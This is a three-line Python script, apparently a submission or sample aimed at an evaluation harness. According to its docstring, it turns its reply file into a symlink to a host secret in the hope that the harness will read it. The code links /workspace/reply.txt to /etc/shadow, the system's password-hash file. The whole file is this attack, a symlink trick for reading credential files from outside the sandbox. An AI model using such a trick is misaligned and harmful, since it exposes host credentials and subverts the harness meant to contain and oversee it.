"""Makes its reply a symlink to a host secret, hoping the harness reads it."""
import os

os.symlink("/etc/shadow", "/workspace/reply.txt")
